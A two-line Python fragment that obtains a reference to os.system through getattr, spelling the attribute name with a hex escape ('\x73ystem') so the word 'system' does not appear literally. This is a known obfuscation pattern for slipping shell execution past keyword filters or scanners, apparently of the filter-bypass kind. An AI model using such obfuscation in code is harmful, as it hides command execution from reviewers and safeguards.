import os
X=getattr(os,"\x73ystem")